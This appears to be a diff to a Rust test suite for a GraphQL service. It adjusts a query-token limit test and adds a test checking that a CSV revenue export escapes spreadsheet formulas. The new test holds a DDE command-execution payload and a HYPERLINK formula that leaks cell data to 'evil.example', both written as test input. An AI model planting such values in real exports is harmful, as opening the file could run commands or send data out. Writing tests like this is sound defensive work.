@@ -101,8 +101,9 @@ async fn a_document_of_many_password_guesses_is_refused_whole() {
 #[tokio::test]
 async fn documents_over_the_size_token_or_nesting_limits_are_refused() {
     let app = TestApp::spawn().await;
-    let tokens = format!("{{ {} }}", "__typename ".repeat(2001));
-    assert!(tokens.len() < 64 * 1024);
+    // Two thousand and one tokens in 4 KB: refused for its tokens, not its bytes.
+    let tokens = format!("{{ {} }}", "a ".repeat(2001));
+    assert!(tokens.len() < 16 * 1024);
     assert_code(
         &app.graphql(&tokens, json!({}), None).await,
         "QUERY_TOO_LARGE",
@@ -192,4 +193,53 @@ async fn an_edited_listing_cursor_is_bad_user_input() {
             "{what}: {body}"
         );
     }
+}
+
+#[tokio::test]
+async fn partner_text_that_a_spreadsheet_would_run_is_exported_as_text() {
+    let app = TestApp::spawn().await;
+    let admin = app.admin("finance").await;
+    let community = create_community(&app, &admin, "phones", "PUBLIC").await;
+    let idea = submit(&app, &admin, &community, "A longer battery").await;
+    let line = "+cmd|' /C calc'!A0";
+    let body = app
+        .graphql(
+            "mutation($input: AdoptSuggestionInput!) { adoptSuggestion(input: $input) { id } }",
+            json!({ "input": {
+                "suggestionId": idea, "productLine": line, "currency": "USD",
+                "startsAt": "2025-01-01T00:00:00Z",
+            } }),
+            auth(&admin),
+        )
+        .await;
+    ok(&body, "adoptSuggestion");
+    let external = "=HYPERLINK(\"http://evil.example/?leak=\"&A1)";
+    let body = app
+        .graphql(
+            "mutation($input: ReportSalesInput!) { reportSales(input: $input) { id } }",
+            json!({ "input": {
+                "externalId": external, "productLine": line, "periodStart": "2025-03-01T00:00:00Z",
+                "periodEnd": "2025-04-01T00:00:00Z", "netSales": "1000.00", "currency": "USD",
+            } }),
+            auth(&admin),
+        )
+        .await;
+    ok(&body, "reportSales");
+    let response = app
+        .client
+        .get(format!("{}/exports/revenue-shares.csv", app.address))
+        .bearer_auth(&admin.access_token)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 200);
+    let text = response.text().await.unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let record = reader.records().next().expect("one record").unwrap();
+    assert_eq!(&record[column("external_id")], format!("'{external}"));
+    assert_eq!(&record[column("product_line")], format!("'{line}"));
+    // Amounts stay numbers.
+    assert!(!record[column("amount")].starts_with('\''), "{record:?}");
 }
